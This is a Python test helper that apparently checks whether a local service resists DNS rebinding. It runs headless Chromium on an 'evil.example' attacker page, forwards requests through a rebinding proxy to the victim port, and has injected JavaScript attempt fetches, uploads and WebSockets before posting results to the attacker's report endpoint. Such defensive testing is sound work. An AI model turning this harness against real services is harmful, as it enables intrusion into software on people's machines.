"""A real Chromium that opens a page of an attacker, and the attacker's own web server."""

import json
import os
import queue
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator, Sequence
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

from tests.programs.real_plugins import lacking

EVIL = "evil.example"
PROGRAMS = ("chromium", "chromium-browser", "google-chrome")
PAGE = """<!doctype html><title>attack</title><script>
async function attempt(one) {
  if (one.socket) {
    return new Promise(done => {
      const socket = new WebSocket(one.url.startsWith("ws:") ? one.url : `ws://${location.host}${one.url}`);
      socket.onopen = () => done("open");
      socket.onerror = socket.onclose = () => done("closed");
    });
  }
  try {
    const body = one.form ? new FormData() : one.body;
    if (one.form) body.append("sound", new Blob(["RIFF"]), "a.wav");
    const answer = await fetch(one.url, {method: one.method, mode: one.mode, body});
    return answer.type === "opaque" ? "opaque" : answer.status;
  } catch (error) {
    return "failed";
  }
}
(async () => {
  const results = [];
  for (const one of ATTEMPTS) results.push(await attempt(one));
  const body = JSON.stringify(results);
  await fetch(`http://${location.hostname}:REPORT/report`, {method: "POST", mode: "no-cors", body});
})();
</script>"""


@dataclass(frozen=True)
class Attempt:
    """What the page tries: a request, or a WebSocket."""

    url: str
    socket: bool = False
    method: str = "GET"
    mode: str = "cors"
    body: str | None = None
    form: bool = False


class RebindingHost:
    """The address of an attacker: at first its own page, then, as DNS says now, the victim's port.

    For the browser all of it is one origin. The bytes of all other requests go to the victim as
    they are, with the Host and the Origin that the browser sends.
    """

    def __init__(self, victim: tuple[str, int], attempts: Sequence[Attempt]) -> None:
        self._victim, self._attempts = victim, attempts
        self.results: queue.Queue[list[object]] = queue.Queue()
        self._listening = socket.create_server(("127.0.0.1", 0))
        # Connections of the first port are kept open, and lead to the victim by then.
        self._reports = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listening.getsockname()[1]
        for listening in (self._listening, self._reports):
            threading.Thread(target=self._accept, args=(listening,), daemon=True).start()

    def close(self) -> None:
        """Accept no more connections."""
        self._listening.close()
        self._reports.close()

    def _accept(self, listening: socket.socket) -> None:
        with suppress(OSError):
            while True:
                wire, _ = listening.accept()
                threading.Thread(target=self._serve, args=(wire,), daemon=True).start()

    def _serve(self, wire: socket.socket) -> None:
        with wire, suppress(OSError):
            data = wire.recv(65536)
            if not data:
                return  # a connection that the browser opens in advance
            path = data.split(b" ")[1]
            if path == b"/attack":
                attempts = json.dumps([one.__dict__ for one in self._attempts])
                page = PAGE.replace("ATTEMPTS", attempts)
                answer(wire, page.replace("REPORT", str(self._reports.getsockname()[1])).encode())
            elif path == b"/report":
                while not data.rstrip().endswith(b"]"):
                    data += wire.recv(65536)
                self.results.put(json.loads(data.partition(b"\r\n\r\n")[2]))
                answer(wire, b"thanks")
            elif path == b"/favicon.ico":
                answer(wire, b"")
            else:
                self._forward(wire, data)

    def _forward(self, wire: socket.socket, data: bytes) -> None:
        """Send the bytes of one connection to the victim, and its bytes back."""
        with socket.create_connection(self._victim) as victim:
            victim.sendall(data)
            threading.Thread(target=copy, args=(wire, victim), daemon=True).start()
            copy(victim, wire)


def copy(source: socket.socket, target: socket.socket) -> None:
    """Copy bytes until the source ends."""
    with suppress(OSError):
        while data := source.recv(65536):
            target.sendall(data)
    with suppress(OSError):
        target.shutdown(socket.SHUT_WR)


def answer(wire: socket.socket, body: bytes) -> None:
    """Send a page and end the connection."""
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n"
    wire.sendall(head.encode() + b"Connection: close\r\n\r\n" + body)


def attack(
    victim: tuple[str, int], attempts: Sequence[Attempt], folder: Path, name: str = EVIL
) -> list[object]:
    """Open the attacker's page in Chromium; what each attempt got: a status, "open", "failed"."""
    with closing(RebindingHost(victim, attempts)) as host:
        with chromium(f"http://{name}:{host.port}/attack", folder):
            return host.results.get(timeout=120)


@contextmanager
def chromium(url: str, folder: Path) -> Iterator[None]:
    """Open a page without a window; the attacker's name means this machine."""
    program = next((found for name in PROGRAMS if (found := shutil.which(name))), None)
    if program is None:
        lacking("no Chromium: get it with `make plugins`")
    command = [program, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"]
    command += ["--disable-dev-shm-usage", f"--user-data-dir={folder}"]
    command += [f"--host-resolver-rules=MAP {EVIL} 127.0.0.1", "--disable-features=HttpsUpgrades"]
    environment = os.environ | {"HOME": str(folder)}
    with subprocess.Popen(
        [*command, url], env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ) as browser:
        try:
            yield
        finally:
            browser.terminate()
            with suppress(subprocess.TimeoutExpired):
                browser.wait(10)
            browser.kill()
